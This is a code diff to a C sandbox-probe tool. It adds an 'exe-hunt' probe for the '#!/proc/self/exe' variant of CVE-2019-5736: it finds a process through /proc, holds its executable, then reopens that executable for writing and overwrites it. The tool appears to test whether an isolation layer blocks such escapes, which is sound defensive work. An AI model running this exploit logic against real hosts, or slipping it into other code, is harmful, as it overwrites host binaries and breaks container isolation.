@@ -31,6 +31,12 @@
  *                             CVE-2019-5736: hold /proc/PID/exe with O_PATH,
  *                             wait for the file TRIGGER, then reopen the
  *                             held fd for writing and write to it
+ *   probe exe-hunt FIFO       the "#!/proc/self/exe" variant: wait for a
+ *                             process whose command line names FIFO (berth,
+ *                             run as a hostile script's interpreter), hold
+ *                             its /proc/PID/exe, release it through FIFO,
+ *                             wait for it to exit, then write through the
+ *                             held fd (retrying while the file is busy)
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -212,6 +218,77 @@ static int exe_attack(const char *pid, const char *trigger)
 	return 0;
 }
 
+/* the pid of a process (not us) whose command line contains `needle` */
+static long find_cmdline(const char *needle)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *de;
+	long found = 0;
+
+	while (d != NULL && found == 0 && (de = readdir(d)) != NULL) {
+		char path[300], buf[4096];
+		long pid = strtol(de->d_name, NULL, 10);
+		ssize_t n;
+		int fd;
+
+		if (pid <= 0 || pid == (long)getpid())
+			continue;
+		snprintf(path, sizeof(path), "/proc/%ld/cmdline", pid);
+		fd = open(path, O_RDONLY);
+		if (fd < 0)
+			continue;
+		n = read(fd, buf, sizeof(buf) - 1);
+		close(fd);
+		for (ssize_t i = 0; i < n; i++)
+			if (buf[i] == '\0')
+				buf[i] = ' ';
+		buf[n > 0 ? n : 0] = '\0';
+		if (strstr(buf, needle) != NULL)
+			found = pid;
+	}
+	if (d != NULL)
+		closedir(d);
+	return found;
+}
+
+static int exe_hunt(const char *fifo)
+{
+	char path[64], buf[256];
+	long pid = 0;
+	int held, fd = -1, rfd;
+
+	if (mkfifo(fifo, 0666) < 0 && errno != EEXIST)
+		return printf("hunt: mkfifo %s\n", ename(errno)), 0;
+	for (int i = 0; i < 6000 && pid == 0; i++) {
+		pid = find_cmdline(fifo);
+		if (pid == 0)
+			usleep(10000);
+	}
+	if (pid == 0)
+		return puts("hunt: nothing ran"), 0;
+	snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
+	held = open(path, O_PATH);
+	printf("open-path: %s\n", held < 0 ? ename(errno) : "ok");
+	rfd = open(fifo, O_RDONLY); /* lets it go on */
+	while (rfd >= 0 && read(rfd, buf, sizeof(buf)) > 0)
+		;
+	for (int i = 0; i < 1000 && kill((pid_t)pid, 0) == 0; i++)
+		usleep(10000);
+	if (held < 0)
+		return 0;
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
+	for (int i = 0; i < 100; i++) {
+		fd = open(path, O_WRONLY);
+		if (fd >= 0 || errno != ETXTBSY)
+			break;
+		usleep(100000);
+	}
+	printf("reopen-write: %s\n", fd < 0 ? ename(errno) : "ok");
+	if (fd >= 0)
+		printf("write: %s\n", pwrite(fd, "OVERWRITTEN", 11, 0) == 11 ? "ok" : ename(errno));
+	return 0;
+}
+
 static int raw_clone(unsigned long flags)
 {
 	long pid = syscall(SYS_clone, flags | SIGCHLD, 0, NULL, NULL, 0);
@@ -254,6 +331,8 @@ static int iso_cmd(const char *cmd, int argc, char **argv)
 		return result((int)syscall(SYS_personality, strtoul(argv[2], NULL, 16)));
 	if (strcmp(cmd, "clone") == 0)
 		return raw_clone(strtoul(argv[2], NULL, 16));
+	if (strcmp(cmd, "exe-hunt") == 0)
+		return exe_hunt(argv[2]);
 	if (argc < 4)
 		return 2;
 	if (strcmp(cmd, "exe-attack") == 0)
@@ -332,6 +411,6 @@ int main(int argc, char **argv)
 	fprintf(stderr,
 		"usage: probe fds|open|mknod|ptrace|mount|unshare-user|keyctl|bpf|"
 		"chroot|chroot-escape|write-exe|readlink-exe|hog|forkbomb|burn|tty|cwd|sigmask|"
-		"status|create|chown|raw-socket|personality|clone|exe-attack ...\n");
+		"status|create|chown|raw-socket|personality|clone|exe-attack|exe-hunt ...\n");
 	return 2;
 }
